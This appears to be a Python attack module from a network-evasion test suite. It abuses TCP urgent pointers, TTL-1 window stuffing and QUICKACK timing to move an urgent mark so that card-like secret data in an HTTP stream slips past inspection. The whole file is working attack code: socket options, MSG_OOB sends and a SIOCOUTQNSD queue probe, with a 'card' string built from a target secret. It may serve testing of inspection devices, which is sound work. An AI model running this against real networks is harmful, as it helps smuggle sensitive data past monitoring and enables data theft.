"""An urgent pointer that arrives on an acknowledgement, without payload.

The receiver takes the byte that the pointer names out of the stream, whichever segment brings it.
Segments that bring urgent data are refused, so the pointer comes alone: while the byte waits for
the congestion window, which is full of segments that died on the way (a TTL of 1), an answer of
the server is acknowledged. Then a second urgent byte far behind moves the mark, and a segment with
64 KB in flight behind it bears none (tcp_transmit_skb). The sink must be one that answers (http)
and one that offers a window of more than 64 KB.
"""

from __future__ import annotations

import fcntl
import select
import socket
import struct
import time

from attacks.connection import drained, give_up
from attacks.target import Target, refused

SIOCOUTQNSD = 0x894B
WARM, BEHIND = 1_200_000, 550_000
STEP = 2896  # two segments
MOST = 1000
TRIES = 4
GET = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"


def main(target: Target) -> None:
    """On some connections, since it is a matter of timing."""
    half = len(target.secret) // 2
    for _ in range(TRIES):
        made = target.tcp()
        try:
            with refused():
                fill_and_mark(made, target.secret[:half], target.secret[half:])
                drained(made, 3)
        finally:
            give_up(made)


def fill_and_mark(made: socket.socket, first: bytes, second: bytes) -> None:
    """Open the window, fill it, mark, acknowledge, move the mark."""
    head = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % WARM
    made.sendall(head + b"." * WARM)
    drained(made, 3)
    made.recv(4096)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_QUICKACK, 0)
    made.sendall(GET)
    made.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)
    for _ in range(MOST):
        made.sendall(b"." * STEP)
        if unsent(made):
            break
    made.send(b"order 17, card " + first)
    made.send(b"x", socket.MSG_OOB)
    made.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 64)
    select.select([made], [], [], 1)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_QUICKACK, 1)
    time.sleep(0.002)
    made.settimeout(0)
    with refused():
        made.send(second + b", thanks\n" + b"." * BEHIND)
    made.send(b"y", socket.MSG_OOB)


def unsent(made: socket.socket) -> int:
    """Bytes that have not been sent once."""
    answer = fcntl.ioctl(made.fileno(), SIOCOUTQNSD, b"\0\0\0\0")
    return int(struct.unpack("i", answer)[0])
